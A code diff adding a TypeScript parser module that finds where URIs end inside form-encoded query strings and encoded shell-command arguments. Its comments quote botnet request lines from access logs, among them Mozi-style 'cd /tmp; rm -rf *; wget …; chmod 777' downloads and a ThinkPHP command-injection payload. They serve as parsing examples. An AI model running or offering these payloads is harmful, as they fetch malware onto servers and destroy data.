@@ -1,0 +1,92 @@
+/**
+ * A bare URI that stands inside another URI's query, where form encoding
+ * (application/x-www-form-urlencoded, WHATWG URL §5.1: "&" separates the name-value pairs,
+ * "+" is a space) tells where it ends: the value of a "?name=" or "&name=" pair, and a shell
+ * command's argument whose spaces were encoded (the requests of botnets in every public web
+ * server's access log).
+ */
+
+import { C_ALNUM, C_ALPHA, C_URI, CLASS } from "../chars.js";
+import { MORE_INPUT } from "./more-input.js";
+
+/** longest pair name looked back over */
+const MAX_NAME = 64;
+
+/**
+ * The URI's scheme at buf[s] is a query pair's value: "?name=" or "&name=" right before it
+ * (`GET /wp-login.php?redirect_to=https://blog.example/wp-admin/&reauth=1`,
+ * `/authorize?client_id=web&redirect_uri=https://app.example/cb&scope=openid`). Looks back
+ * at most MAX_NAME bytes, not before lo.
+ */
+export function queryValueAt(buf: Uint8Array, s: number, lo: number): boolean {
+  if (s - 3 < lo || buf[s - 1] !== 0x3d) return false;
+  let k = s - 1; // where the name starts
+  while (k > lo && s - 1 - k < MAX_NAME && NAME[buf[k - 1]!] === 1) k--;
+  return k < s - 1 && k > lo && (buf[k - 1] === 0x3f || buf[k - 1] === 0x26);
+}
+
+/** a pair's name: letters, digits and these (WordPress's "redirect_to", "return-url", "u.x", "a[]") */
+const NAME = new Uint8Array(256);
+for (let b = 0; b < 128; b++) if (CLASS[b]! & C_ALNUM) NAME[b] = 1;
+for (const ch of "_-.[]") NAME[ch.charCodeAt(0)] = 1;
+
+/**
+ * At an "&" at buf[i] (or HTML's "&amp;" for it: a link's query in escaped markup): 1 when
+ * the next pair's "name=" follows, 0 when not, MORE_INPUT when that is not known before n
+ */
+export function nextPairAt(buf: Uint8Array, i: number, n: number): number {
+  if (i + 5 > n) return MORE_INPUT;
+  let k =
+    buf[i + 1] === 0x61 && buf[i + 2] === 0x6d && buf[i + 3] === 0x70 && buf[i + 4] === 0x3b
+      ? i + 5
+      : i + 1;
+  const from = k;
+  while (k < n && k - from < MAX_NAME && NAME[buf[k]!] === 1) k++;
+  if (k >= n) return MORE_INPUT;
+  return k > from && buf[k] === 0x3d ? 1 : 0;
+}
+
+/**
+ * The scheme at buf[s] is glued to a word by an encoded space — "+" or "%20" — in a query:
+ * a shell command's argument (`/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.14:8088/Mozi.a;chmod+777+…`,
+ * ThinkPHP's `…vars[1][]=cd%20/tmp;wget%20http://192.0.2.11/bins/x86;chmod%20777…`,
+ * `busybox+wget+http://…+-O+/tmp/gpon`). Not a version-control system's "git+https"
+ * (scheme-start.ts gluedHttp leaves that scheme whole).
+ */
+export function commandArgumentAt(buf: Uint8Array, s: number, lo: number): boolean {
+  if (s - 2 >= lo && buf[s - 1] === 0x2b) return (CLASS[buf[s - 2]!]! & C_ALPHA) !== 0;
+  return (
+    s - 4 >= lo &&
+    buf[s - 3] === 0x25 &&
+    buf[s - 2] === 0x32 &&
+    buf[s - 1] === 0x30 &&
+    (CLASS[buf[s - 4]!]! & C_ALPHA) !== 0
+  );
+}
+
+/**
+ * Where a command's argument that starts at buf[from] ends: at its first encoded space ("+",
+ * "%20"), the shell's command separator (";", "&", "|", "`") or a byte no URI holds; end when
+ * none comes before it, MORE_INPUT when the input may go on past n
+ */
+export function commandArgumentEnd(
+  buf: Uint8Array,
+  from: number,
+  end: number,
+  n: number,
+  final: boolean,
+): number {
+  for (let k = from; k < end; k++) {
+    const b = buf[k]!;
+    if (b === 0x25) {
+      if (k + 2 >= n && !final) return MORE_INPUT;
+      if (buf[k + 1] === 0x32 && buf[k + 2] === 0x30) return k;
+      continue;
+    }
+    if (ENDS[b] === 1 || (b < 0x80 && !(CLASS[b]! & C_URI))) return k;
+  }
+  return end === n && !final ? MORE_INPUT : end;
+}
+
+const ENDS = new Uint8Array(256);
+for (const ch of "+;&|` ") ENDS[ch.charCodeAt(0)] = 1;
